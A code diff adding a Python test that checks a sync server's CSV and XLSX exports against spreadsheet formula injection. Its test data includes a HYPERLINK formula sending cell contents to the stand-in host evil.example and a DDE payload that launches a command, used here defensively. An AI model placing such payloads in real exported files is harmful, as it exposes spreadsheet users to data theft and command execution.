@@ -188,6 +188,23 @@ def test_exports_read_back(w: World, admin: TestClient) -> None:
     assert bad.status_code == 400 and "YYYY-MM-DD" in bad.text
 
 
+def test_exported_text_never_runs_as_a_spreadsheet_formula() -> None:
+    import csv
+
+    from sync_server.web.exports import csv_chunks, xlsx_bytes
+
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "Afi"]
+    rows = [(name, 1000) for name in names]
+    text = "".join(csv_chunks(("name", "savings"), iter(rows))).lstrip("\ufeff")
+    read = list(csv.reader(io.StringIO(text)))[1:]
+    assert [r[0] for r in read] == ["'" + n for n in names[:4]] + ["Afi"]  # shown as text, with a quote
+    assert [r[1] for r in read] == ["1000"] * 5
+    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ("name", "savings"), iter(rows)))).active
+    cells = list(sheet.iter_rows(min_row=2))
+    assert [c[0].value for c in cells] == names  # exactly as typed…
+    assert {c[0].data_type for c in cells} == {"s"} and {c[1].value for c in cells} == {1000}  # …and never a formula
+
+
 def test_pages_are_small_scriptless_and_translated(w: World, admin: TestClient) -> None:
     urls = ["/", "/groups", w.group_url("K01"), "/kiosks", "/exports", "/enrollments", "/users", "/verify", "/login"]
     for url in urls:
